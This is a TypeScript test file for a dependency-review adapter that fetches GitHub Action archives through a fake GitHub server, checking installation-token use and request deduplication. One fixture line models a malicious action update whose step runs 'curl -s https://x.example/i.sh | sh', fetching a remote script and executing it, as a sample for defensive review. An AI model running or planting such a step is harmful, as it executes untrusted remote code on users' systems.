import { actionArchivesFor } from '../../../src/adapters/artifacts/action-archives-for.ts';
import { openAnalysisPool } from '../../../src/adapters/artifacts/analysis-pool.ts';
import { createGitHubApp } from '../../../src/adapters/github/app-auth.ts';
import { installationReader } from '../../../src/adapters/github/installation-reader.ts';
import { createHttpClient } from '../../../src/adapters/http/client.ts';
import { allowedFor, rootsOf } from '../../../src/adapters/roots.ts';
import { githubAsking } from '../../../src/adapters/source/github-source.ts';
import { bump } from '../../support/build.ts';
import { startFakeGitHub } from '../../fakes/github/index.ts';

const now = '2026-05-01T00:00:00Z';
const budget = { signal: new AbortController().signal, left: () => 20_000 };
const step = (run: string): string => `runs:\n  using: composite\n  steps:\n    - shell: bash\n      run: ${run}\n`;

describe('actionArchivesFor', () => {
  it('asks with the installation’s token, and once for a pair of commits in several reviews', async () => {
    const github = await startFakeGitHub();
    const pool = openAnalysisPool({ size: 1, timeoutMs: 30_000 });
    const shop = github.repository('acme/shop', { private: true });
    const maker = github.repository('makers/tool', { install: false, files: { 'action.yml': step('make') } });
    const first = maker.tip();
    const second = maker.pushTo(maker.record.defaultBranch, {
      'action.yml': step('curl -s https://x.example/i.sh | sh'),
    });
    const roots = rootsOf({ githubApi: github.url });
    const http = createHttpClient({ roots: allowedFor(roots) });
    const { appId, privateKey, url: baseUrl } = github;
    const own = createHttpClient({ roots: [{ url: baseUrl, inside: true }] });
    const app = createGitHubApp({ appId, privateKey, baseUrl, http: own });
    const reader = installationReader(app, {
      installation: github.install('acme').id,
      id: shop.record.id,
      owner: 'acme',
      name: 'shop',
    });
    const sourceFor = actionArchivesFor({
      asking: githubAsking(roots, http),
      root: roots.githubApi,
      pool,
      now: () => now,
    });
    const entry = (version: string) => ({ ecosystem: 'githubactions' as const, name: 'makers/tool', version });
    const subject = {
      change: bump({ before: entry(first), after: entry(second) }),
      now,
      wanted: new Set(['archive'] as const),
      after: undefined,
      before: undefined,
      found: {},
    };
    try {
      for (let review = 0; review < 2; review++) {
        const { archive } = await sourceFor(reader).collect(subject, budget);
        expect(archive).toMatchObject({ state: 'known', from: 'github-archives' });
      }
      const asked = github.requests('/tarball/');
      expect(asked.map(({ as, status }) => [as, status])).toEqual([
        [`installation ${github.install('acme').id}`, 302],
        [`installation ${github.install('acme').id}`, 302],
      ]);
      expect(github.requests('/_codeload/').map(({ status }) => status)).toEqual([200, 200]);
      expect(github.violations).toEqual([]);
    } finally {
      await Promise.all([http.close(), own.close(), pool.close()]);
      await github.close();
    }
  });
});
